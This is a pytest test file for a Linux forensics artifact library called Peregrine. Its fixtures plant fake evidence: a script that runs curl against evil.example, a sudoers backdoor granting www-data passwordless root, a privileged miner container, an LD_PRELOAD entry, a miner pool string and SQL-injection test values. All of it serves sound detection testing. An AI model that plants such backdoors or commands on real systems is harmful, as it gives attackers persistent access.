"""The built-in artifact library: it loads cleanly, every artifact runs for real on this machine,
and the important ones find what they are meant to find in real fixtures."""

from __future__ import annotations

import hashlib
import json
import os
import sqlite3
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from peregrine.artifacts.loader import ArtifactError, builtin_files
from peregrine.artifacts.repository import ArtifactRepository
from peregrine.artifacts.runner import ArtifactRunner, SourceOutcome
from peregrine.engine.context import UploadSink


def _load() -> ArtifactRepository:
    repo = ArtifactRepository()
    repo.load_texts(builtin_files())
    return repo


# Event artifacts never end: tests/artifacts/test_event_library.py runs them for a while.
_NAMES = [artifact.name for artifact in _load() if artifact.type != "CLIENT_EVENT"]


@pytest.fixture(scope="module")
def repo() -> ArtifactRepository:
    return _load()


@pytest.fixture(scope="module")
def runner(repo: ArtifactRepository) -> ArtifactRunner:
    return ArtifactRunner(repo, isolated=False)


Rows = list[dict[str, Any]]


def collect(
    runner: ArtifactRunner,
    name: str,
    params: dict[str, Any] | None = None,
    uploads: UploadSink | None = None,
) -> dict[str, tuple[SourceOutcome, Rows]]:
    """Run every source of an artifact; source name -> (outcome, rows as dicts)."""
    planned = runner.plan(name, params or {})
    results: dict[str, tuple[SourceOutcome, Rows]] = {}
    for source in planned.artifact.sources:
        outcome = SourceOutcome(name, source.name)
        rows = list(runner.run_source(planned, source, outcome, uploads=uploads))
        dicts = [dict(zip(outcome.columns, row, strict=True)) for row in rows]
        results[source.name] = (outcome, dicts)
    return results


def rows_of(runner: ArtifactRunner, name: str, params: dict[str, Any], source: str = "") -> Rows:
    outcome, rows = collect(runner, name, params)[source]
    assert outcome.status == "finished", outcome.error
    return rows


# -- the library as a whole -----------------------------------------------------------------


def test_library_loads_and_compiles_without_problems(repo: ArtifactRepository) -> None:
    assert [str(p) for p in repo.problems] == []
    assert [str(p) for p in repo.check()] == []


def test_library_has_enough_artifacts(repo: ArtifactRepository) -> None:
    assert len(repo) >= 45
    assert len([a for a in repo if a.name.startswith("Linux.")]) >= 40


def test_every_artifact_is_documented(repo: ArtifactRepository) -> None:
    for artifact in repo:
        assert artifact.author == "Peregrine", artifact.name
        assert len(artifact.description.split()) >= 10, artifact.name
        for param in artifact.parameters:
            assert param.description, f"{artifact.name}: {param.name}"
        if artifact.name.split(".")[0] in ("Linux", "MacOS", "Windows"):
            assert artifact.precondition, artifact.name


# Defaults of these walk big trees or every process; here they get a small target instead.
def _overrides(tmp_path: Path) -> dict[str, dict[str, Any]]:
    small = [f"{tmp_path}/**"]
    return {
        "Generic.Files.Finder": {"PathGlob": small},
        "Linux.Files.SUID": {"PathGlob": ["/usr/bin/*"]},
        "Linux.Files.RecentlyModified": {"PathGlob": ["/etc/**", *small]},
        "Linux.Forensics.Timeline": {"PathGlob": ["/etc/**"]},
        "Linux.Detection.TmpExecutables": {"PathGlob": small},
        "Linux.Detection.YaraProcesses": {"Pid": os.getpid()},
        "Linux.Sys.ProcessEnvironment": {"Pid": os.getpid()},
        "System.VFS.ListDirectory": {"Path": str(tmp_path)},
        "System.VFS.DownloadFile": {"Path": f"{tmp_path}/sample.txt", "Upload": False},
    }


@pytest.mark.parametrize("name", _NAMES)
def test_every_artifact_runs_here(runner: ArtifactRunner, name: str, tmp_path: Path) -> None:
    (tmp_path / "sample.txt").write_text("sample\n")
    artifact = runner.repository.get(name)
    results = collect(runner, name, _overrides(tmp_path).get(name, {}))
    assert len(results) == len(artifact.sources)
    for outcome, _rows in results.values():
        if outcome.status == "skipped":
            # Only artifacts for another OS may skip on this Linux machine.
            assert "'linux'" not in (artifact.precondition or ""), outcome.error
        else:
            assert outcome.status == "finished", f"{outcome.source}: {outcome.error}"


def test_linux_artifacts_return_what_this_machine_has(runner: ArtifactRunner) -> None:
    assert {r["username"] for r in rows_of(runner, "Linux.Sys.PrivilegedUsers", {})} >= {"root"}
    groups = {r["name"]: r for r in rows_of(runner, "Linux.Sys.Groups", {"GroupRegex": "^root$"})}
    assert groups["root"]["gid"] == 0 and "root" in json.loads(groups["root"]["primary_members"])
    release = {r["key"]: r["value"] for r in rows_of(runner, "Linux.Sys.OSRelease", {})}
    assert release["ID"] and not release["ID"].startswith('"')
    timers = rows_of(runner, "Linux.Sys.SystemdTimers", {})
    assert all(t["unit"].endswith(".timer") for t in timers)
    pids = {r["pid"] for r in rows_of(runner, "Linux.Sys.ProcessTree", {})}
    assert os.getpid() in pids


# -- file finder ----------------------------------------------------------------------------


def test_finder_combines_size_time_content_and_yara_and_uploads(
    runner: ArtifactRunner, tmp_path: Path
) -> None:
    root = tmp_path / "tree"
    (root / "deep" / "er").mkdir(parents=True)
    target = root / "deep" / "er" / "payload.sh"
    target.write_bytes(b"#!/bin/sh\n" + b"x" * 500 + b"\ncurl http://evil.example/PEREGRINE_MARK\n")
    old = time.time() - 10 * 86400
    os.utime(target, (old, old))
    decoys = {
        "too_small.sh": b"PEREGRINE_MARK\n",  # passes content, fails MinSize
        "no_content.sh": b"#!/bin/sh\n" + b"y" * 600,  # passes size/time, fails content
        "too_new.sh": b"#!/bin/sh\n" + b"x" * 500 + b"\nPEREGRINE_MARK\n",  # fails time
    }
    for name, data in decoys.items():
        (root / name).write_bytes(data)
    os.utime(root / "too_small.sh", (old, old))
    os.utime(root / "no_content.sh", (old, old))

    glob = [f"{root}/**"]
    everything = rows_of(runner, "Generic.Files.Finder", {"PathGlob": glob})
    assert len(everything) == 4  # no filter set: nothing is filtered
    assert all(r["upload"] is None for r in everything)

    params = {
        "PathGlob": glob,
        "MinSize": 100,
        "MaxSize": 10_000,
        "ModifiedBefore": time.time() - 86400,
        "ModifiedAfter": old - 60,
        "ContentRegex": r"curl\s+http://\S+",
        "YaraRule": 'rule Mark { strings: $m = "PEREGRINE_MARK" condition: $m }',
        "Upload": True,
    }
    sink = UploadSink(str(tmp_path / "up"), None)
    outcome, rows = collect(runner, "Generic.Files.Finder", params, uploads=sink)[""]
    assert outcome.status == "finished", outcome.error
    assert [r["path"] for r in rows] == [str(target)]
    row = rows[0]
    data = target.read_bytes()
    assert row["size"] == len(data)
    assert row["sha256"] == hashlib.sha256(data).hexdigest()
    assert row["md5"] == hashlib.md5(data).hexdigest()
    assert json.loads(row["content_match"])["match"] == "curl http://evil.example/PEREGRINE_MARK"
    assert json.loads(row["yara_rules"]) == ["Mark"]
    uploaded = json.loads(row["upload"])
    assert uploaded["sha256"] == hashlib.sha256(data).hexdigest()
    copy = tmp_path / "up" / uploaded["stored"]
    assert copy.read_bytes() == data


def test_finder_without_hash_reads_no_contents(runner: ArtifactRunner, tmp_path: Path) -> None:
    (tmp_path / "a.bin").write_bytes(b"a" * 10)
    rows = rows_of(runner, "Generic.Files.Finder", {"PathGlob": [f"{tmp_path}/*"], "Hash": False})
    assert [(r["path"], r["sha256"]) for r in rows] == [(str(tmp_path / "a.bin"), None)]


# -- logs -----------------------------------------------------------------------------------

TS = "2024-05-01T10:0{}.000000+00:00 web1"
AUTH_LOG = "".join(
    line + "\n"
    for line in (
        f"{TS.format('0:00')} "
        "sshd[1001]: Failed password for invalid user admin from 203.0.113.9 port 40001 ssh2",
        f"{TS.format('0:05')} "
        "sshd[1002]: Failed password for root from 203.0.113.9 port 40002 ssh2",
        f"{TS.format('0:06')} sshd[1003]: Invalid user oracle from 198.51.100.7 port 50000",
        "May  1 10:01:00 web1 "
        "sshd[1004]: Failed publickey for alice from 198.51.100.7 port 50001 ssh2: RSA SHA256:abc",
        f"{TS.format('1:30')} sshd[1004]: Connection closed by 198.51.100.7 port 50001 [preauth]",
        f"{TS.format('2:00')} "
        "sshd[1005]: Accepted password for alice from 203.0.113.9 port 40010 ssh2",
        "May  1 10:03:00 web1 "
        "sshd[1006]: Accepted publickey for bob from 192.0.2.50 port 40011 ssh2: "
        "ED25519 SHA256:Zm9vYmFy",
        f"{TS.format('4:00')} "
        "sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id -u",
        f"{TS.format('5:00')} "
        "sudo:      bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; "
        "COMMAND=/bin/cat /etc/shadow",
    )
)


@pytest.fixture
def auth_logs(tmp_path: Path) -> list[str]:
    (tmp_path / "auth.log").write_text(AUTH_LOG)
    (tmp_path / "auth.log.1").write_text(
        "2024-04-30T08:00:00+00:00 web1 sshd[900]: Failed password for root from 203.0.113.9 "
        "port 39000 ssh2\n"
    )
    (tmp_path / "auth.log.2.gz").write_bytes(b"\x1f\x8b not read")
    return [f"{tmp_path}/auth.log*"]


def test_ssh_failed_logins_are_parsed(runner: ArtifactRunner, auth_logs: list[str]) -> None:
    rows = rows_of(runner, "Linux.Ssh.FailedLogins", {"LogGlob": auth_logs})
    got = sorted(
        (r["user"], r["remote_ip"], r["remote_port"], r["method"], r["invalid_user"]) for r in rows
    )
    assert got == [
        ("admin", "203.0.113.9", 40001, "password", 1),
        ("alice", "198.51.100.7", 50001, "publickey", 0),
        ("oracle", "198.51.100.7", 50000, "none", 1),
        ("root", "203.0.113.9", 39000, "password", 0),
        ("root", "203.0.113.9", 40002, "password", 0),
    ]
    first = next(r for r in rows if r["remote_port"] == 40001)
    assert first["time"] == 1714557600 and first["sshd_pid"] == 1001
    classic = next(r for r in rows if r["remote_port"] == 50001)
    assert classic["log_time"] == "May  1 10:01:00" and classic["time"] is None
    only_root = rows_of(
        runner, "Linux.Ssh.FailedLogins", {"LogGlob": auth_logs, "UserRegex": "^root$"}
    )
    assert {r["user"] for r in only_root} == {"root"} and len(only_root) == 2


def test_ssh_accepted_logins_are_parsed(runner: ArtifactRunner, auth_logs: list[str]) -> None:
    rows = rows_of(runner, "Linux.Ssh.AcceptedLogins", {"LogGlob": auth_logs})
    got = sorted(
        (r["user"], r["remote_ip"], r["method"], r["key_type"], r["key_fingerprint"]) for r in rows
    )
    assert got == [
        ("alice", "203.0.113.9", "password", None, None),
        ("bob", "192.0.2.50", "publickey", "ED25519", "SHA256:Zm9vYmFy"),
    ]


def test_sudo_commands_are_parsed(runner: ArtifactRunner, auth_logs: list[str]) -> None:
    rows = rows_of(runner, "Linux.Sys.SudoCommands", {"LogGlob": auth_logs})
    got = [
        (r["user"], r["run_as"], r["command"], r["cwd"], r["allowed"], r["failure"]) for r in rows
    ]
    assert got == [
        ("alice", "root", "/usr/bin/id -u", "/home/alice", 1, None),
        ("bob", "root", "/bin/cat /etc/shadow", "/home/bob", 0, "user NOT in sudoers"),
    ]


# -- files ----------------------------------------------------------------------------------


def test_timeline_writes_bodyfile_lines(runner: ArtifactRunner, tmp_path: Path) -> None:
    planted = tmp_path / "evidence.txt"
    planted.write_bytes(b"12345")
    planted.chmod(0o644)
    os.utime(planted, (1_700_000_000, 1_600_000_000))
    (tmp_path / "link").symlink_to(planted)
    (tmp_path / "a|b").write_text("")
    params = {"PathGlob": [f"{tmp_path}/*"], "Hash": True}
    by_path = {r["path"]: r for r in rows_of(runner, "Linux.Forensics.Timeline", params)}
    assert set(by_path) == {str(planted), str(tmp_path / "link"), str(tmp_path / "a|b")}
    st = os.lstat(planted)
    crtime = by_path[str(planted)]["crtime"]
    assert crtime == int(st.st_ctime) or crtime > 1_700_000_000  # birth time: now-ish
    expected = (
        f"{hashlib.md5(b'12345').hexdigest()}|{planted}|{st.st_ino}|-rw-r--r--|"
        f"{st.st_uid}|{st.st_gid}|5|1700000000|1600000000|{int(st.st_ctime)}|{crtime}"
    )
    assert by_path[str(planted)]["bodyfile"] == expected
    link = by_path[str(tmp_path / "link")]["bodyfile"].split("|")
    assert link[0] == "0"  # only regular files are hashed
    assert link[1] == f"{tmp_path / 'link'} -> {planted}" and link[3].startswith("l")
    assert (
        by_path[str(tmp_path / "a|b")]["bodyfile"].split("|", 1)[1].startswith(f"{tmp_path}/a\\|b|")
    )


def test_suid_finds_a_planted_setuid_file(runner: ArtifactRunner, tmp_path: Path) -> None:
    suid = tmp_path / "rootshell"
    suid.write_bytes(b"\x7fELF")
    suid.chmod(0o4755)
    sgid = tmp_path / "groupy"
    sgid.write_bytes(b"x")
    sgid.chmod(0o2755)
    plain = tmp_path / "plain"
    plain.write_bytes(b"x")
    plain.chmod(0o755)
    rows = rows_of(runner, "Linux.Files.SUID", {"PathGlob": [f"{tmp_path}/**"]})
    found = {Path(r["path"]).name: r for r in rows}
    assert set(found) == {"rootshell", "groupy"}
    assert found["rootshell"]["setuid"] == 1 and found["rootshell"]["mode"] == "4755"
    assert found["rootshell"]["sha256"] == hashlib.sha256(b"\x7fELF").hexdigest()
    assert found["groupy"]["setgid"] == 1 and found["groupy"]["setuid"] == 0
    no_sgid = rows_of(
        runner, "Linux.Files.SUID", {"PathGlob": [f"{tmp_path}/**"], "IncludeSetgid": False}
    )
    assert [Path(r["path"]).name for r in no_sgid] == ["rootshell"]


def test_recently_modified_sees_a_fresh_file(runner: ArtifactRunner, tmp_path: Path) -> None:
    fresh = tmp_path / "fresh.conf"
    fresh.write_text("new")
    stale = tmp_path / "stale.conf"
    stale.write_text("old")
    os.utime(stale, (946_684_800, 946_684_800))  # mtime 2000, but ctime is now
    params: dict[str, Any] = {"PathGlob": [f"{tmp_path}/**"], "Hours": 1}
    rows = {
        Path(r["path"]).name: r for r in rows_of(runner, "Linux.Files.RecentlyModified", params)
    }
    assert rows["fresh.conf"]["content_changed"] == 1
    assert (
        rows["stale.conf"]["content_changed"] == 0 and rows["stale.conf"]["metadata_changed"] == 1
    )
    params["UseCtime"] = False
    rows = {
        Path(r["path"]).name: r for r in rows_of(runner, "Linux.Files.RecentlyModified", params)
    }
    assert set(rows) == {"fresh.conf"}
    params["Since"] = "2999-01-01T00:00:00Z"
    assert rows_of(runner, "Linux.Files.RecentlyModified", params) == []


def test_tmp_executables_by_magic_and_mode(runner: ArtifactRunner, tmp_path: Path) -> None:
    (tmp_path / "innocent.txt").write_bytes(b"\x7fELF\x02\x01")  # an ELF, whatever its name
    (tmp_path / "run.sh").write_bytes(b"#!/bin/sh\necho hi\n")
    (tmp_path / "notes").write_bytes(b"hello")
    rows = rows_of(runner, "Linux.Detection.TmpExecutables", {"PathGlob": [f"{tmp_path}/**"]})
    assert {Path(r["path"]).name: r["kind"] for r in rows} == {
        "innocent.txt": "elf",
        "run.sh": "script",
    }


# -- processes ------------------------------------------------------------------------------


@pytest.fixture
def child_with_marker() -> Iterator[tuple[subprocess.Popen[str], str]]:
    """A Python child holding a unique marker in memory and in its environment; the marker is
    not on its command line (hex-encoded there) so only its memory can match."""
    marker = f"PEREGRINE_{uuid.uuid4().hex}"
    code = (
        "import sys, time; kept = bytes.fromhex(sys.argv[1]).decode() * 4; "
        "print('ready', flush=True); time.sleep(60)"
    )
    env = {**os.environ, "PEREGRINE_TEST_MARK": marker}
    child = subprocess.Popen(
        [sys.executable, "-c", code, marker.encode().hex()],
        stdout=subprocess.PIPE,
        text=True,
        env=env,
    )
    try:
        assert child.stdout is not None and child.stdout.readline().strip() == "ready"
        yield child, marker
    finally:
        child.kill()
        child.wait()
        if child.stdout is not None:
            child.stdout.close()


def test_process_environment_finds_a_child_variable(
    runner: ArtifactRunner, child_with_marker: tuple[subprocess.Popen[str], str]
) -> None:
    child, marker = child_with_marker
    params = {"VariableRegex": "^PEREGRINE_TEST_MARK$", "Pid": child.pid}
    rows = rows_of(runner, "Linux.Sys.ProcessEnvironment", params)
    assert [(r["pid"], r["variable"], r["value"]) for r in rows] == [
        (child.pid, "PEREGRINE_TEST_MARK", marker)
    ]
    # Without Pid, the value filter finds it among all processes.
    rows = rows_of(
        runner,
        "Linux.Sys.ProcessEnvironment",
        {"VariableRegex": "^PEREGRINE_TEST_MARK$", "ValueRegex": marker},
    )
    assert child.pid in {r["pid"] for r in rows}


def test_yara_processes_matches_a_marker_in_memory(
    runner: ArtifactRunner, child_with_marker: tuple[subprocess.Popen[str], str]
) -> None:
    child, marker = child_with_marker
    rule = f'rule Marker {{ strings: $m = "{marker}" condition: $m }}'
    rows = rows_of(runner, "Linux.Detection.YaraProcesses", {"YaraRule": rule, "Pid": child.pid})
    assert [(r["pid"], r["rule"]) for r in rows] == [(child.pid, "Marker")]
    matched = json.loads(rows[0]["strings"])
    assert matched and matched[0]["data"] == marker
    other = 'rule Absent { strings: $m = "PEREGRINE_not_in_that_process_0x1" condition: $m }'
    # The rule text lives in this process, not the child: nothing matches there.
    assert (
        rows_of(runner, "Linux.Detection.YaraProcesses", {"YaraRule": other, "Pid": child.pid})
        == []
    )


# -- applications ---------------------------------------------------------------------------


def _firefox_db(path: Path) -> None:
    path.parent.mkdir(parents=True)
    db = sqlite3.connect(path)
    db.executescript(
        """
        CREATE TABLE moz_places (id INTEGER PRIMARY KEY, url TEXT, title TEXT, visit_count INT);
        CREATE TABLE moz_historyvisits (id INTEGER PRIMARY KEY, place_id INT, visit_date INT);
        INSERT INTO moz_places VALUES (1, 'https://evil.example/payload', 'Payload', 2);
        INSERT INTO moz_places VALUES (2, 'https://docs.example/', 'Docs', 1);
        INSERT INTO moz_historyvisits VALUES (1, 1, 1714557600000000);
        INSERT INTO moz_historyvisits VALUES (2, 1, 1714557700000000);
        INSERT INTO moz_historyvisits VALUES (3, 2, 1600000000000000);
        """
    )
    db.commit()
    db.close()


def _chrome_db(path: Path) -> None:
    path.parent.mkdir(parents=True)
    db = sqlite3.connect(path)
    chrome_epoch = 11644473600 * 1_000_000
    db.executescript(
        f"""
        CREATE TABLE urls (id INTEGER PRIMARY KEY, url TEXT, title TEXT, visit_count INT);
        CREATE TABLE visits (id INTEGER PRIMARY KEY, url INT, visit_time INT);
        CREATE TABLE downloads (id INTEGER PRIMARY KEY, target_path TEXT, tab_url TEXT,
                                referrer TEXT, total_bytes INT, mime_type TEXT, start_time INT);
        INSERT INTO urls VALUES (1, 'https://chrome.example/x', 'X', 1);
        INSERT INTO visits VALUES (1, 1, {chrome_epoch + 1714557600000000});
        INSERT INTO downloads VALUES (
            1, '/home/alice/Downloads/tool.elf', 'https://chrome.example/tool', NULL, 1234,
            'application/octet-stream', {chrome_epoch + 1714557650000000});
        """
    )
    db.commit()
    db.close()


def test_browser_history_reads_firefox_and_chrome(runner: ArtifactRunner, tmp_path: Path) -> None:
    home = tmp_path / "home" / "alice"
    _firefox_db(home / ".mozilla" / "firefox" / "abcd.default-release" / "places.sqlite")
    _chrome_db(home / ".config" / "google-chrome" / "Default" / "History")
    params = {"HomeGlob": [f"{tmp_path}/home/*"], "Since": "2021-01-01T00:00:00Z"}
    results = collect(runner, "Linux.Sys.BrowserHistory", params)
    assert {name: o.status for name, (o, _) in results.items()} == {
        "firefox": "finished",
        "chromium": "finished",
        "chromium_downloads": "finished",
    }
    firefox = results["firefox"][1]
    assert [(r["url"], r["title"], r["visit_time"]) for r in firefox] == [
        ("https://evil.example/payload", "Payload", 1714557700.0),
        ("https://evil.example/payload", "Payload", 1714557600.0),
    ]  # the 2020-09 visit is before Since
    chrome = results["chromium"][1]
    assert [(r["url"], r["visit_time"]) for r in chrome] == [
        ("https://chrome.example/x", 1714557600.0)
    ]
    downloads = results["chromium_downloads"][1]
    assert [(r["target_path"], r["start_time"]) for r in downloads] == [
        ("/home/alice/Downloads/tool.elf", 1714557650.0)
    ]


def test_docker_containers_from_state_files(runner: ArtifactRunner, tmp_path: Path) -> None:
    container = tmp_path / "containers" / "abc123"
    container.mkdir(parents=True)
    config = {
        "ID": "abc123",
        "Name": "/miner",
        "Path": "/xmrig",
        "Args": ["-o", "pool"],
        "Created": "2024-05-01T10:00:00Z",
        "Config": {"Image": "evil/miner:latest", "User": ""},
        "State": {"Running": True, "Pid": 4242},
    }
    (container / "config.v2.json").write_text(json.dumps(config))
    (container / "hostconfig.json").write_text(
        json.dumps({"Privileged": True, "NetworkMode": "host", "Binds": ["/:/host"]})
    )
    rows = rows_of(runner, "Linux.Sys.DockerContainers", {"DockerRoot": str(tmp_path)})
    assert len(rows) == 1
    row = rows[0]
    assert (row["name"], row["image"], row["running"], row["privileged"]) == (
        "miner",
        "evil/miner:latest",
        1,
        1,
    )
    assert json.loads(row["binds"]) == ["/:/host"] and row["network_mode"] == "host"


def test_ld_preload_file_lists_libraries(runner: ArtifactRunner, tmp_path: Path) -> None:
    library = tmp_path / "libhide.so"
    library.write_bytes(b"\x7fELF fake")
    preload = tmp_path / "ld.so.preload"
    preload.write_text(f"# comment\n\n{library}\n")
    results = collect(runner, "Linux.Detection.LdPreload", {"PreloadFile": str(preload)})
    outcome, rows = results["preload_file"]
    assert outcome.status == "finished", outcome.error
    assert [(r["library"], r["sha256"]) for r in rows] == [
        (str(library), hashlib.sha256(b"\x7fELF fake").hexdigest())
    ]


def test_execve_runs_a_program_and_needs_the_permission(
    repo: ArtifactRepository, runner: ArtifactRunner
) -> None:
    rows = rows_of(runner, "Linux.Sys.Execve", {"Argv": ["echo", "it's; $(not a shell)"]})
    assert [(r["return_code"], r["stdout"]) for r in rows] == [(0, "it's; $(not a shell)\n")]
    restricted = ArtifactRunner(repo, isolated=False, permissions=frozenset({"FILESYSTEM_READ"}))
    with pytest.raises(ArtifactError, match="EXECVE"):
        restricted.plan("Linux.Sys.Execve", {})


# -- parameters are values, never SQL -------------------------------------------------------


def test_hostile_regex_is_refused_or_only_a_value(runner: ArtifactRunner, query: Any) -> None:
    with pytest.raises(ArtifactError, match="regular expression"):
        runner.plan("Linux.Sys.Users", {"UserRegex": "') OR 1=1 --"})
    hostile = "x' OR '1'='1"
    got = rows_of(runner, "Linux.Sys.Users", {"UserRegex": hostile})
    literal = query("SELECT username FROM users() WHERE username REGEXP 'x'' OR ''1''=''1'")
    assert got == [] and literal == []
    assert len(rows_of(runner, "Linux.Sys.Users", {"UserRegex": "."})) > 1


def test_hostile_string_is_bound_as_a_value(runner: ArtifactRunner, tmp_path: Path) -> None:
    hostile = tmp_path / 'hosts\'); DROP TABLE x; -- "q"'
    hostile.write_text("10.6.6.6 evil.example alias.example # note\n")
    rows = rows_of(runner, "Linux.Sys.Hosts", {"HostsFile": str(hostile)})
    assert [(r["address"], r["hostname"]) for r in rows] == [
        ("10.6.6.6", "evil.example"),
        ("10.6.6.6", "alias.example"),
    ]
    resolv = tmp_path / "resolv' OR 1=1 --"
    resolv.write_text("nameserver 192.0.2.53\n# nameserver 1.1.1.1\nsearch corp.example\n")
    params = {"ResolvConf": str(resolv), "NsswitchConf": str(resolv)}
    rows = collect(runner, "Linux.Network.DNSConfig", params)["resolvers"][1]
    assert [(r["path"], r["directive"], r["value"]) for r in rows] == [
        (str(resolv), "nameserver", "192.0.2.53"),
        (str(resolv), "search", "corp.example"),
    ]


def test_sudoers_keeps_rules_and_include_directives(runner: ArtifactRunner, tmp_path: Path) -> None:
    (tmp_path / "sudoers").write_text(
        "# comment\nDefaults env_reset\n\nroot ALL=(ALL:ALL) ALL\n#includedir /etc/sudoers.d\n"
    )
    (tmp_path / "sudoers.d").mkdir()
    (tmp_path / "sudoers.d" / "backdoor").write_text("  # why\nwww-data ALL=(ALL) NOPASSWD: ALL\n")
    glob = [f"{tmp_path}/sudoers", f"{tmp_path}/sudoers.d/*"]
    rows = rows_of(runner, "Linux.Sys.Sudoers", {"SudoersGlob": glob})
    assert [(Path(r["path"]).name, r["rule"], r["nopasswd"]) for r in rows] == [
        ("sudoers", "Defaults env_reset", 0),
        ("sudoers", "root ALL=(ALL:ALL) ALL", 0),
        ("sudoers", "#includedir /etc/sudoers.d", 0),
        ("backdoor", "www-data ALL=(ALL) NOPASSWD: ALL", 1),
    ]


def test_sshd_config_directives(runner: ArtifactRunner, tmp_path: Path) -> None:
    (tmp_path / "sshd_config").write_text(
        "# PermitRootLogin no\nPermitRootLogin yes\nPasswordAuthentication  yes\nPort 2222\n"
    )
    params = {"ConfigGlob": [str(tmp_path / "sshd_config")], "DirectiveRegex": "^permit|password"}
    rows = rows_of(runner, "Linux.Ssh.SshdConfig", params)
    assert [(r["directive"], r["value"]) for r in rows] == [
        ("PermitRootLogin", "yes"),
        ("PasswordAuthentication", "yes"),
    ]


def test_artifacts_run_in_a_worker_too(repo: ArtifactRepository, auth_logs: list[str]) -> None:
    """The default runner isolates each query in a worker; list parameters cross over intact."""
    isolated = ArtifactRunner(repo)
    rows = rows_of(isolated, "Linux.Ssh.AcceptedLogins", {"LogGlob": auth_logs})
    assert sorted(r["user"] for r in rows) == ["alice", "bob"]


def test_default_yara_rule_finds_a_miner_but_not_the_scanner(runner: ArtifactRunner) -> None:
    code = (
        "import time; pool = 'stratum' + '+tcp://pool.example.net:3333'; "
        "print('ready', flush=True); time.sleep(60)"
    )
    child = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True)
    try:
        assert child.stdout is not None and child.stdout.readline().strip() == "ready"
        # This process holds the rule's text, which must not match the rule itself (scanned
        # first: once the child matched, the matched bytes are in this process's memory too).
        assert rows_of(runner, "Linux.Detection.YaraProcesses", {"Pid": os.getpid()}) == []
        rows = rows_of(runner, "Linux.Detection.YaraProcesses", {"Pid": child.pid})
        assert [r["rule"] for r in rows] == ["Miner_Or_Reverse_Shell"]
    finally:
        child.kill()
        child.wait()
        if child.stdout is not None:
            child.stdout.close()
